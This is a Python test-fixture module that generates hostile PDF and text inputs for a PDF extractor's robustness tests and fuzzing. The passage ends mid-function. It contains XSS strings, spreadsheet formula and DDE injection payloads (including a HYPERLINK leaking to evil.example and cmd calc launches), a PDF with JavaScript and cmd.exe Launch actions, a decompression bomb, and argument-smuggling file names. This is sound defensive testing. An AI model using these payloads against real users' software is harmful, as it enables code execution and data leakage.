"""The hostile corpus: files octa must survive, generated here (never downloaded), each with the
outcome it must get.

``build_corpus(folder)`` writes every file into ``folder`` and returns one :class:`Case` per file:
the expected outcome per layout engine (``"profile"`` or an :class:`octa.errors.OctaError` reason),
the password to give (if any) and why that outcome is the correct one. Used by
``tests/test_hostile.py`` and ``scripts/fuzz.py``.

Truncation, precisely. A PDF is a body of numbered objects followed by a cross-reference table,
a trailer and ``startxref``. A file cut inside the body has lost (part of) an object: page content,
a font, a page: whatever octa would still read from it is incomplete, so the only correct outcome is
``corrupt`` (MuPDF would "repair" it into a profile with silently missing pages or garbled rows; octa
refuses that). A file cut after the last ``endobj`` has lost only the cross-reference table and
trailer, which are an index of the body, not content: MuPDF rebuilds the index by scanning the
objects, so ``pymupdf`` reads the complete profile (``profile``). pdfminer (``pdfplumber``) cannot
rebuild a trailer it never saw; it reads the file once ``startxref`` and its number are intact, and
reports ``corrupt`` before that, which is an honest outcome for a damaged file. See
:func:`truncation_expectation`.
"""

from __future__ import annotations

import random
import re
import stat
import zlib
from dataclasses import dataclass, field
from pathlib import Path

ENGINES = ("pymupdf", "pdfplumber")
PROFILE = "profile"
PASSWORD = "s3cret pw"
OWNER_PASSWORD = "owner-only"

#: WinAnsi codes without a glyph (nothing is painted) that the control-character profile's
#: ToUnicode CMap maps to control, bidi and zero-width characters; drawn with zero advance.
HOSTILE_CODES: dict[int, str] = {
    0x01: "\u202e",  # RIGHT-TO-LEFT OVERRIDE
    0x02: "\x07",  # BEL
    0x03: "\x1b",  # ESC
    0x04: "\u2066",  # LEFT-TO-RIGHT ISOLATE
    0x05: "\u200f",  # RIGHT-TO-LEFT MARK
    0x06: "\x00",  # NUL
    0x0E: "\ufeff",  # ZERO WIDTH NO-BREAK SPACE (BOM)
    0x0F: "\x85",  # NEXT LINE (C1)
    0x10: "\u202c",  # POP DIRECTIONAL FORMATTING
    0x11: "\u2069",  # POP DIRECTIONAL ISOLATE
    0x12: "\x0b",  # VERTICAL TAB
    0x13: "\u200b",  # ZERO WIDTH SPACE
}
HOSTILE_CHARS = frozenset(HOSTILE_CODES.values())

#: Text that must reach outputs only as inert text (escaped HTML, neutralised CSV cells).
HTML_PAYLOAD = "<script>alert('octa')</script><img src=x onerror=alert(1)>"
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak","click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)

#: Hostile file names for a good profile (each must extract like any other profile).
HOSTILE_NAMES = (
    "profile with spaces.pdf",
    "prófil ünïcode 日本 ملف.pdf",
    "-rf.pdf",
    "--help.pdf",
    '=HYPERLINK("http:evil","x").pdf',
    "+1 @SUM.pdf",
    "new\nline.pdf",
)


@dataclass(frozen=True)
class Case:
    name: str  # file name inside the corpus folder
    expected: dict[str, str]  # engine -> "profile" or an OctaError reason
    why: str
    password: str | None = None
    max_pages: int | None = None
    truth: str | None = None  # truth JSON name (in the folder) for profiles whose scores are checked
    tags: tuple[str, ...] = field(default_factory=tuple)

    def expect(self, engine: str = "pymupdf") -> str:
        """The outcome with this case's password and page cap."""
        return self.expected[engine]

    def expect_default(self, engine: str = "pymupdf") -> str:
        """The outcome with default options (no password, the default page cap), as in a batch."""
        if self.password is not None:
            return "encrypted"
        if self.max_pages is not None:
            return PROFILE
        return self.expected[engine]

    @property
    def path_name(self) -> str:
        return self.name


def both(outcome: str) -> dict[str, str]:
    return dict.fromkeys(ENGINES, outcome)


# ----------------------------------------------------------------------------------------------
# Base profiles
# ----------------------------------------------------------------------------------------------

def _spec(seed: int, *, family: str = "global", year: int = 2023, country: str = "Mali"):
    from octa import synth

    synth._setup_fonts()
    rng = synth.profile_rng(seed, 0)
    spec = synth.make_profile_spec(rng, family, year, index=0, seed=seed, country=country)
    # plain WinAnsi Helvetica, no ligature font and no overprint: the post-processing below edits
    # literal strings and font dictionaries, which these variants keep simple
    spec.variants.update(font="helvetica", ligatures=False, overprint=False, narrative_columns=1)
    return spec, rng


def render(spec, rng) -> tuple[bytes, str]:
    """PDF bytes and truth JSON of a synth spec."""
    from octa import synth

    pdf, truth, _ = synth.render_profile(spec, rng)
    return pdf, truth.to_json()


def base_profile(seed: int = 11) -> tuple[bytes, str]:
    """A plain good profile (global 2023): PDF bytes and truth JSON."""
    return render(*_spec(seed))


# ----------------------------------------------------------------------------------------------
# Hand-written PDFs
# ----------------------------------------------------------------------------------------------

def write_pdf(objects: list[bytes], root: int = 1, version: bytes = b"1.7") -> bytes:
    """A PDF from object bodies (object i+1 is ``objects[i]``) with a correct xref table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def zero_pages_pdf() -> bytes:
    """A well-formed PDF whose page tree is empty (MuPDF refuses to save one, so it is written by hand)."""
    return write_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def page_tree_cycle_pdf() -> bytes:
    """A page tree whose node lists itself among its kids (an infinite tree)."""
    return write_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ])


def text_only_pdf(text: str) -> bytes:
    """One page of Helvetica text (no score table): a PDF that is not a profile."""
    lines = [ln[i:i + 90] for ln in text.splitlines() for i in range(0, max(len(ln), 1), 90)]
    ops = ["BT /F1 10 Tf 50 750 Td 12 TL"]
    for ln in lines[:60]:
        esc = ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({esc}) Tj T*")
    ops.append("ET")
    content = "\n".join(ops).encode("latin-1", "replace")
    return write_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ])


def inflate_bomb_pdf(megabytes: int = 64) -> bytes:
    """One page whose content stream inflates from ~``megabytes``/1000 MB to ``megabytes`` MB of blanks."""
    raw = zlib.compress(b" " * (megabytes << 20), 9)
    return write_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(raw) + raw + b"\nendstream",
    ])


# ----------------------------------------------------------------------------------------------
# Transformations of a good profile (pymupdf)
# ----------------------------------------------------------------------------------------------

def _open(data: bytes):
    import pymupdf

    return pymupdf.open(stream=data, filetype="pdf")


def _save(doc, **kw) -> bytes:
    return doc.tobytes(**kw)


def encrypt(data: bytes, user_pw: str, owner_pw: str, method: str = "aes256") -> bytes:
    import pymupdf

    enc = {"aes256": pymupdf.PDF_ENCRYPT_AES_256, "rc4": pymupdf.PDF_ENCRYPT_RC4_128}[method]
    doc = _open(data)
    perm = pymupdf.PDF_PERM_PRINT  # no copying, no editing: an owner password that forbids extraction
    return _save(doc, encryption=enc, user_pw=user_pw, owner_pw=owner_pw, permissions=perm)


def image_only(data: bytes, dpi: int = 60) -> bytes:
    """Every page rendered to a picture, in a new PDF without any text: what a scanner produces."""
    import pymupdf

    src = _open(data)
    out = pymupdf.open()
    for page in src:
        pix = page.get_pixmap(dpi=dpi)
        new = out.new_page(width=page.rect.width, height=page.rect.height)
        new.insert_image(new.rect, stream=pix.tobytes("png"))
    return _save(out, deflate=True)


def many_pages(count: int = 2000) -> bytes:
    import pymupdf

    doc = pymupdf.open()
    for _ in range(count):
        doc.new_page(width=595, height=842)
    return _save(doc, garbage=1, deflate=True)


def huge_page_box(data: bytes, side: int = 20000) -> bytes:
    doc = _open(data)
    xref = doc.page_xref(0)
    doc.xref_set_key(xref, "MediaBox", f"[0 0 {side} {side}]")
    doc.xref_set_key(xref, "CropBox", "null")
    return _save(doc)


def broken_xref(data: bytes) -> bytes:
    """Every xref offset replaced by a wrong one of the same width (the table stays parseable)."""
    m = re.search(rb"\nxref\n(\d+) (\d+)\n", data)
    assert m, "no classic xref table"
    start = m.end()
    end = data.index(b"trailer", start)
    table = re.sub(rb"(\d{10}) (\d{5}) n", lambda mm: b"%010d %s n" % (int(mm.group(1)) // 3 + 7, mm.group(2)),
                   data[start:end])
    return data[:start] + table + data[end:]


def broken_startxref(data: bytes) -> bytes:
    m = list(re.finditer(rb"startxref\s+(\d+)", data))[-1]
    return data[:m.start(1)] + b"999999999" + data[m.end(1):]


def control_chars_text(data: bytes) -> str:
    """The text layer of a profile (as MuPDF extracts it) with a control, bidi or zero-width
    character before every word."""
    doc = _open(data)
    text = "\n".join(page.get_text() for page in doc)
    chars = sorted(HOSTILE_CHARS - {"\x00"})  # a NUL makes a text file binary
    n = 0

    def one(m: re.Match) -> str:
        nonlocal n
        n += 1
        return chars[n % len(chars)] + m.group(0)

    return re.sub(r"\S+", one, text)


def with_actions(data: bytes, launch_target: str) -> bytes:
    """The profile plus every kind of active content: document-open JavaScript, a Launch action on
    open and on page open, a link annotation launching a file, a URI action, an embedded file and a
    file-attachment annotation."""
    import pymupdf

    doc = _open(data)
    target = launch_target.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    js = doc.get_new_xref()
    doc.update_object(js, "<< /S /JavaScript /JS (app.alert\\('octa'\\); this.exportDataObject\\({cName: "
                          "'payload.sh', nLaunch: 2}\\);) >>")
    launch = doc.get_new_xref()
    doc.update_object(launch, f"<< /S /Launch /F ({target}) /Win << /F (cmd.exe) /P (/c {target}) >> "
                              f"/Unix ({target}) /NewWindow true /Next {js} 0 R >>")
    cat = doc.pdf_catalog()
    doc.xref_set_key(cat, "OpenAction", f"{launch} 0 R")
    doc.xref_set_key(cat, "AA", f"<< /WC {js} 0 R /WS {launch} 0 R >>")
    doc.xref_set_key(cat, "Names/JavaScript", f"<< /Names [(boot) {js} 0 R] >>")
    doc.embfile_add("payload.sh", b"#!/bin/sh\ntouch PWNED\n", filename="payload.sh", desc="payload")
    page = doc[0]
    doc.xref_set_key(page.xref, "AA", f"<< /O {launch} 0 R /C {js} 0 R >>")
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(0, 0, 200, 200), "file": launch_target})
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(200, 0, 400, 100),
                      "uri": "javascript:alert(1)"})
    page.add_file_annot(pymupdf.Point(500, 20), b"#!/bin/sh\ntouch PWNED\n", "attached.sh")
    return _save(doc)


def _winansi_widths(font_name: str) -> list[int]:
    from reportlab.pdfbase import pdfmetrics

    return [int(round(w)) for w in pdfmetrics.getFont(font_name).widths]


def _to_unicode_cmap(remap: dict[int, str]) -> bytes:
    lines = []
    for code in sorted(set(range(32, 256)) | set(remap)):
        if code in remap:
            ch = remap[code]
        else:
            try:
                ch = bytes([code]).decode("cp1252")
            except UnicodeDecodeError:
                continue
        lines.append(f"<{code:02X}> <{ord(ch):04X}>")
    chunks = [lines[i:i + 100] for i in range(0, len(lines), 100)]
    body = "\n".join(f"{len(c)} beginbfchar\n" + "\n".join(c) + "\nendbfchar" for c in chunks)
    return ("/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
            "/CMapName /Octa-Hostile def /CMapType 2 def\n"
            "1 begincodespacerange <00> <FF> endcodespacerange\n"
            f"{body}\nendcmap CMapName currentdict /CMap defineresource pop end end\n").encode("ascii")


_TOKENS = re.compile(rb"/([^\s/\[\]()<>]+)\s+[-\d.]+\s+Tf|\(((?:[^()\\]|\\.)*)\)(\s*Tj)")


def _inject_strings(content: bytes, fonts: set[str], inject) -> bytes:
    """``inject`` applied to the literal strings of ``Tj`` shown while a font of ``fonts`` is set."""
    current = None

    def sub(m: re.Match) -> bytes:
        nonlocal current
        if m.group(1) is not None:
            current = m.group(1).decode("latin-1")
            return m.group(0)
        if current not in fonts:
            return m.group(0)
        return b"(" + inject(m.group(2)) + b")" + m.group(3)

    return _TOKENS.sub(sub, content)


def control_chars_profile(seed: int = 12) -> tuple[bytes, str]:
    """A profile whose text layer carries control characters, bidi overrides and zero-width
    characters inside words, on every page: at the start and after the first character of every
    string drawn in Helvetica (labels, scores, changes, ranks, headings, narrative lines) and after
    every space. They are drawn from codes without a glyph and with zero advance, so the printed
    page is unchanged: only the text layer is hostile."""
    spec, rng = _spec(seed, country="Kenya", family="enact", year=2025)
    data, truth = render(spec, rng)
    doc = _open(data)
    codes = list(HOSTILE_CODES)
    n = 0

    def code() -> bytes:
        nonlocal n
        n += 1
        return bytes([codes[n % len(codes)]])

    def inject(s: bytes) -> bytes:
        if not s.strip():
            return s
        head = code() + s[:1] + code()
        return head + b"".join(c + (code() if c == b" " else b"") for c in (s[i:i + 1] for i in range(1, len(s))))

    for page in doc:
        helvetica = {name for _x, _e, _t, base, name, enc in page.get_fonts()
                     if enc == "WinAnsiEncoding" and base.startswith("Helvetica")}
        for xref in page.get_contents():
            doc.update_stream(xref, _inject_strings(doc.xref_stream(xref), helvetica, inject))
    # every WinAnsi Helvetica: explicit widths (0 for the hostile codes) and the hostile ToUnicode
    done = set()
    for page in doc:
        for xref, _ext, _type, base, _name, enc in page.get_fonts():
            if xref in done or enc != "WinAnsiEncoding" or not base.startswith("Helvetica"):
                continue
            done.add(xref)
            widths = _winansi_widths(base)
            for code in HOSTILE_CODES:
                widths[code] = 0
            cmap = doc.get_new_xref()
            doc.update_object(cmap, "<< >>")
            doc.update_stream(cmap, _to_unicode_cmap(HOSTILE_CODES))
            doc.xref_set_key(xref, "ToUnicode", f"{cmap} 0 R")
            doc.xref_set_key(xref, "FirstChar", "0")
            doc.xref_set_key(xref, "LastChar", "255")
            doc.xref_set_key(xref, "Widths", "[" + " ".join(map(str, widths)) + "]")
    assert n > 50 and done, "nothing injected"
    return _save(doc, deflate=True), truth


def html_formula_profile(seed: int = 13) -> tuple[bytes, str]:
    """A profile whose narrative carries HTML and spreadsheet-formula text, some paragraphs
    starting with it (so that a paragraph cell of ``sections.csv`` begins with ``=``, ``+``, ``-``, ``@``)."""
    spec, rng = _spec(seed, country="Peru")
    payloads = [HTML_PAYLOAD, *FORMULA_PAYLOADS]
    spec.paragraphs = [(first, covered, f"{payloads[i % len(payloads)]} {text} {HTML_PAYLOAD}")
                       for i, (first, covered, text) in enumerate(spec.paragraphs)]
    return render(spec, rng)


# ----------------------------------------------------------------------------------------------
# Truncation
# ----------------------------------------------------------------------------------------------

def body_end(data: bytes) -> int:
    """Offset just after the last ``endobj`` (where the cross-reference section starts)."""
    return data.rindex(b"endobj") + len(b"endobj")


def trailer_end(data: bytes) -> int:
    """Offset just after the ``>>`` closing the last trailer dictionary."""
    start = data.rindex(b"trailer")
    return data.index(b">>\nstartxref", start) + 2


def truncation_expectation(data: bytes, n: int) -> dict[str, str]:
    """The correct outcome of ``data[:n]`` per engine (see the module docstring).

    pdfplumber (pdfminer) rebuilds a missing or cut cross-reference table by scanning for objects,
    but it needs the trailer, the only place naming the document's root: it reads the file from the
    trailer's closing ``>>`` on, except while the file ends inside the keyword ``startxref``
    (a partial keyword after the trailer is a syntax error to it)."""
    if n >= len(data):
        return both(PROFILE)
    if n == 0:
        return both("empty")
    if n < body_end(data):
        return both("corrupt")
    kw = data.index(b"startxref", data.rindex(b"trailer"))
    plumber = PROFILE if n >= trailer_end(data) and not kw < n < kw + len(b"startxref") else "corrupt"
    return {"pymupdf": PROFILE, "pdfplumber": plumber}


def truncation_offsets(data: bytes, count: int = 16, seed: int = 0) -> list[int]:
    """Offsets to cut at: every object boundary region, the body end and the tail, plus ``count``
    spread (seeded) over the file."""
    rng = random.Random(seed)
    be, te = body_end(data), trailer_end(data)
    kw = data.index(b"startxref", te)
    picks = {0, 1, 5, 8, 9, 16, 100, be - 7, be - 1, be, te - 1, te, kw + 3, len(data) - 1}
    starts = [m.start() for m in re.finditer(rb"\d+ 0 obj", data)]
    for s in starts[::max(1, len(starts) // 8)]:
        picks.update({s, s + 4})
    picks.update(rng.randrange(len(data)) for _ in range(count))
    return sorted(p for p in picks if 0 <= p < len(data))


# ----------------------------------------------------------------------------------------------
# The corpus
# ----------------------------------------------------------------------------------------------

def _w(folder: Path, name: str, data: bytes | str) -> None:
    p = folder / name
    if isinstance(data, str):
        p.write_text(data, encoding="utf-8")
    else:
        p.write_bytes(data)


def build_corpus(folder: str | Path, *, truncations: int = 16, pages: int = 2000,
                 bomb_mb: int = 64) -> list[Case]:
    """Write the hostile corpus into ``folder``; return its cases. ``truncations`` is the number of
    random cut points added to the systematic ones."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, data: bytes | str, expected: str | dict[str, str], why: str, **kw) -> None:
        _w(folder, name, data)
        cases.append(Case(name, both(expected) if isinstance(expected, str) else expected, why, **kw))

    good, truth = base_profile()
    _w(folder, "good.truth.json", truth)
    add("good.pdf", good, PROFILE, "the untouched base profile", truth="good.truth.json", tags=("good",))

    add("empty.pdf", b"", "empty", "0 bytes")
    add("few_bytes.pdf", b"%PD", "corrupt", "3 bytes, not even a header")
    add("header_only.pdf", b"%PDF-1.7\n", "corrupt", "a header and nothing else")
    add("nul_bytes.pdf", b"\x00" * 4096, "corrupt", "4 KiB of NUL bytes")
    rnd = random.Random(1)
    add("random.pdf", bytes(rnd.randrange(256) for _ in range(65536)), "corrupt", "64 KiB of random bytes")
    add("random_with_header.pdf", b"%PDF-1.7\n" + bytes(rnd.randrange(256) for _ in range(65536)), "corrupt",
        "a PDF header followed by random bytes")
    add("html.pdf", "<!DOCTYPE html><html><head><title>Mali</title></head><body><h1>Criminality score 5.93"
                    "</h1><script>alert(1)</script></body></html>\n", "corrupt", "an HTML page named .pdf")
    add("html_with_pdf_magic.pdf", "<html><body>%PDF-1.4 <p>not a pdf</p></body></html>\n", "corrupt",
        "HTML with the PDF magic inside its first KiB")
    for n in truncation_offsets(good, truncations):
        add(f"truncated_{n:06d}.pdf", good[:n], truncation_expectation(good, n),
            f"the base profile cut after {n} of {len(good)} bytes (body ends at {body_end(good)}, "
            f"trailer at {trailer_end(good)})", truth="good.truth.json", tags=("truncated",))
    add("encrypted_user.pdf", encrypt(good, PASSWORD, OWNER_PASSWORD), "encrypted",
        "AES-256 with a user password, none given")
    add("encrypted_user_pw.pdf", encrypt(good, PASSWORD, OWNER_PASSWORD), PROFILE,
        "AES-256 with a user password, the right one given", password=PASSWORD, truth="good.truth.json")
    add("encrypted_user_wrong_pw.pdf", encrypt(good, PASSWORD, OWNER_PASSWORD), "encrypted",
        "AES-256 with a user password, a wrong one given", password="wrong")
    add("encrypted_user_rc4.pdf", encrypt(good, PASSWORD, OWNER_PASSWORD, "rc4"), "encrypted",
        "RC4-128 with a user password, none given")
    add("encrypted_owner_only.pdf", encrypt(good, "", OWNER_PASSWORD), PROFILE,
        "owner password only (opens without a password; permissions forbid copying, which is advisory)",
        truth="good.truth.json")
    add("image_only.pdf", image_only(good), "no text layer", "every page a picture, no text (a scan)")
    add("zero_pages.pdf", zero_pages_pdf(), "corrupt", "a well-formed PDF with an empty page tree: no pages")
    add("page_tree_cycle.pdf", page_tree_cycle_pdf(), {"pymupdf": "corrupt", "pdfplumber": "no text layer"},
        "a page tree that contains itself: MuPDF refuses the cycle; pdfminer skips the repeated node and "
        "reads the one real page, which is blank")
    add(f"pages_{pages}.pdf", many_pages(pages), "too large", f"{pages} blank pages, over the 200-page cap")
    add("page_cap_3.pdf", good, "too large", "a good 6-page profile with the page cap set to 3", max_pages=3)
    add("huge_page_box.pdf", huge_page_box(good), "too large", "page 1 is 20,000 pt square (PDF's limit is 14,400)")
    add("broken_xref.pdf", broken_xref(good), {"pymupdf": PROFILE, "pdfplumber": "corrupt"},
        "every xref offset wrong, the objects intact: MuPDF notices and rebuilds the table; pdfminer trusts "
        "the offsets, finds no page tree and says so", truth="good.truth.json")
    add("broken_startxref.pdf", broken_startxref(good), PROFILE,
        "startxref points past the end of the file: both engines rebuild the table", truth="good.truth.json")
    add("broken_xref_keyword.pdf", good.replace(b"\nxref\n", b"\nxrex\n"), PROFILE,
        "the xref keyword damaged: both engines rebuild the table", truth="good.truth.json")
    add("not_a_profile.pdf", text_only_pdf("Annual report\n" + "The organisation met its goals. " * 80),
        "not a profile", "a text PDF without a score table")
    add("inflate_bomb.pdf", inflate_bomb_pdf(bomb_mb), "no text layer",
        f"one page whose content inflates to {bomb_mb} MiB of blanks (must stay bounded; no text)")
    marker = folder / "LAUNCHED"
    script = folder / "launch_me.sh"
    script.write_text(f"#!/bin/sh\ntouch '{marker}'\n", encoding="utf-8")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    add("actions.pdf", with_actions(good, str(script)), PROFILE,
        "JavaScript, Launch actions (open, page open, link), URI, embedded and attached files: none may run",
        truth="good.truth.json", tags=("actions",))
    cc, cc_truth = control_chars_profile()
    _w(folder, "control_chars.truth.json", cc_truth)
    add("control_chars.pdf", cc, PROFILE, "control, bidi and zero-width characters inside every word of the "
        "text layer (labels, scores, ranks, narrative)", truth="control_chars.truth.json", tags=("control",))
    hf, hf_truth = html_formula_profile()
    _w(folder, "html_formula.truth.json", hf_truth)
    add("html_formula.pdf", hf, PROFILE, "narrative with HTML and formula-like text",
        truth="html_formula.truth.json", tags=("html",))
    for name in HOSTILE_NAMES:
        add(name, good, PROFILE, "a good profile with a hostile file name", truth="good.truth.json",
            tags=("name",))
    # text inputs (the .txt path of extract)
    add("empty.txt", b"", "empty", "an empty text file (0 bytes)")
    add("binary.txt", b"\x00\x01\x02" * 1000, "unsupported", "binary data named .txt")
    add("pdf_named.txt", good, "unsupported", "a PDF named .txt")
    add("control_chars.txt", "\x07\u202e" + "Report\x1b of \u2066 the year\x0b\n" * 20, "not a profile",
        "a text file of control and bidi characters, no score table")
    add("control_chars_profile.txt", control_chars_text(good), PROFILE,
        "a profile's extracted text with a control, bidi or zero-width character before every word",
        truth="good.truth.json", tags=("control", "text"))
    return cases


def good_profiles(folder: str | Path, count: int = 3, seed: int = 7) -> list[Path]:
    """Ordinary synth profiles (mixed families and editions) to mix with the corpus in a batch."""
    from octa.synth import generate

    return generate(count, seed, "mixed", folder)


# ----------------------------------------------------------------------------------------------
# Mutations (the fuzzers: tests/test_fuzz.py with hypothesis, scripts/fuzz.py at scale)
# ----------------------------------------------------------------------------------------------

#: PDF syntax worth inserting: structure keywords, huge and negative numbers, unbalanced strings
#: and dictionaries, self references, absurd counts, lengths and matrices.
PDF_TOKENS: tuple[bytes, ...] = (
    b"obj", b"endobj", b"stream\n", b"endstream", b"<<", b">>", b"[", b"]", b"(", b")", b"\\", b"<", b">",
    b"/Length 999999999", b"/Length -1", b"999999999 0 R", b"0 0 R", b"1 0 R", b"-1", b"1e308", b"-0",
    b"99999999999999999999999", b"%%EOF", b"xref\n0 1\n", b"trailer", b"startxref\n0\n", b"/Type /Pages",
    b"/Count 1000000", b"/Kids [1 0 R 1 0 R]", b"/MediaBox [0 0 1e30 1e30]", b"/MediaBox [0 0 0 0]",
    b"BT", b"ET", b"Tj", b"TJ", b"/F1 1e38 Tf", b"/F1 -12 Tf", b"1e38 0 0 1e38 0 0 cm", b"0 0 0 0 0 0 Tm",
    b"q", b"Q" * 64, b"q" * 4096, b"/Filter /FlateDecode", b"/Filter /LZWDecode", b"/DecodeParms << /Predictor 15 >>",
    b"/Encrypt 1 0 R", b"/ObjStm", b"/XRef", b"/Prev 0", b"\x00", b"\xff\xfe", b"\r", b"\n" * 100,
    "(\u202e\u0007 5.50 \u2066)".encode("utf-8"), b"(Human trafficking) Tj", b"(10.00) Tj", b"(n/a) Tj",
)

#: Text worth inserting into text inputs: labels and headings, scores in every shape, ranks, years,
#: controls, bidi and zero-width characters, HTML and formulas, huge and strange numbers.
TEXT_TOKENS: tuple[str, ...] = (
    "CRIMINALITY SCORE", "RESILIENCE SCORE", "Criminal markets", "Criminal actors", "Resilience", "PEOPLE",
    "Human trafficking", "Human smuggling", "Arms trafficking", "Cocaine trade", "Financial crimes",
    "Mafia-style groups", "Political leadership & governance", "Law enforcement", "Prevention",
    "RESILIEN NCE SCORE", "INTERNATION AL COOPERATION", "GOVERNMENT AND ACCOUNT TRANSPARENCY FABILITY",
    "5.50", "10.00", "1.00", "0.50", "-1.00", "n/a", "N/A", "3.0 1. 0 ≥1.0", "0.29د", "↑", "↓", "→", "▲", "▼",
    "43rd of 193 countries", "12th of 54 African countries", "2nd of 15 West African countries", "0th of 0",
    "999999999999999999999th of 1 countries", "2019 2021 2023 202", "10 5 0", "Mali", "Kenya", "Côte d'Ivoire",
    "Global Organized Crime Index", "ENACT Africa Organised Crime Index", "2023", "2025", "1899", "99999",
    "1e308", "-0.00", "NaN", "inf", "９.５０", "٥٫٥", "5,50", "1" * 400, "." * 200, "0." + "9" * 300, "9" * 5000,
    "x" * 20000 + "-", "ab-" * 3000, "ﬁ" + "a" * 8000,
    "\x00", "\x07", "\x1b[31m", "\x0b", "\x0c", "\x85", "\u2028", "\u202e", "\u2066", "\u200f", "\ufeff", "\u200b",
    "\ufffd", "\ud7ff", "ﬁ", "ﬀ", "É", "PAGE 2 OF 24", "©2023 OCINDEX.NET", "\t", "\r\n", "\n\n\n", " " * 50,
    "<script>alert(1)</script>", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
)


def expanded(data: bytes) -> bytes:
    """``data`` with every stream decompressed, so that mutations hit content operators and text."""
    doc = _open(data)
    return doc.tobytes(expand=255, no_new_id=True)


def _pos(data: bytes | str, frac: float) -> int:
    return min(len(data), max(0, int(frac * len(data))))


def mutate_bytes(data: bytes, op: str, a: float, b: float, payload: bytes, other: bytes) -> bytes:
    """One mutation of a PDF's bytes; ``a`` and ``b`` are positions as fractions of the length."""
    i = _pos(data, a)
    if op == "flip":
        if not data:
            return data
        i = min(i, len(data) - 1)
        return data[:i] + bytes([data[i] ^ (1 << int(b * 8) % 8)]) + data[i + 1:]
    if op == "byte":
        return data[:i] + payload[:1] + data[i + 1:]
    if op == "insert":
        return data[:i] + payload + data[i:]
    if op == "delete":
        return data[:i] + data[i + 1 + int(b * 512):]
    if op == "truncate":
        return data[:i]
    if op == "splice":
        j = _pos(other, b)
        return data[:i] + other[j:j + 256 + int(a * 4096)] + data[i:]
    if op == "duplicate":
        n = 1 + int(b * 2048)
        return data[:i] + data[i:i + n] * 3 + data[i:]
    if op == "number":
        m = re.compile(rb"-?\d+(\.\d+)?").search(data, i)
        if m is None:
            return data
        return data[:m.start()] + payload + data[m.end():]
    raise ValueError(op)


BYTE_OPS = ("flip", "byte", "insert", "delete", "truncate", "splice", "duplicate", "number")
NUMBERS = (b"0", b"-1", b"999999999", b"1e38", b"-1e38", b"4294967296", b"2147483648", b"0.000001", b"NaN", b"00",
           b"9" * 5000)


def mutate_text(text: str, op: str, a: float, b: float, payload: str) -> str:
    """One mutation of a text input; ``a`` and ``b`` are positions as fractions of the length."""
    i = _pos(text, a)
    if op == "insert":
        return text[:i] + payload + text[i:]
    if op == "delete":
        return text[:i] + text[i + 1 + int(b * 300):]
    if op == "replace":
        return text[:i] + payload + text[i + 1 + int(b * 20):]
    if op == "lines":  # swap two lines
        lines = text.split("\n")
        if len(lines) < 2:
            return text
        x, y = int(a * (len(lines) - 1)), int(b * (len(lines) - 1))
        lines[x], lines[y] = lines[y], lines[x]
        return "\n".join(lines)
    if op == "repeat":
        n = 1 + int(b * 500)
        return text[:i] + text[i:i + n] * (2 + int(a * 20)) + text[i:]
    if op == "truncate":
        return text[:i]
    raise ValueError(op)


TEXT_OPS = ("insert", "delete", "replace", "lines", "repeat", "truncate")


def random_pdf_case(rng: random.Random, seeds: list[bytes]) -> bytes:
    """A seeded random mutant of one of ``seeds`` (1-6 mutations)."""
    data = rng.choice(seeds)
    for _ in range(rng.choice((1, 1, 2, 3, 6))):
        op = rng.choice(BYTE_OPS)
        payload = rng.choice(NUMBERS) if op == "number" else (
            bytes([rng.randrange(256)]) if op == "byte" else rng.choice(PDF_TOKENS))
        data = mutate_bytes(data, op, rng.random(), rng.random(), payload, rng.choice(seeds))
    return data


def random_text_case(rng: random.Random, seeds: list[str]) -> str:
    """A seeded random text input: a mutated real profile text (mostly) or tokens only."""
    if rng.random() < 0.2:
        return "".join(rng.choice((rng.choice(TEXT_TOKENS), " ", "\n", chr(rng.randrange(0x20, 0x3000))))
                       for _ in range(rng.randrange(1, 400)))
    text = rng.choice(seeds)
    for _ in range(rng.choice((1, 2, 3, 8, 20))):
        text = mutate_text(text, rng.choice(TEXT_OPS), rng.random(), rng.random(), rng.choice(TEXT_TOKENS))
    return text


def random_text_bytes(rng: random.Random, seeds: list[str]) -> bytes:
    """A text case as file bytes: UTF-8, sometimes with raw byte damage (invalid UTF-8)."""
    data = random_text_case(rng, seeds).encode("utf-8")
    if rng.random() < 0.15:
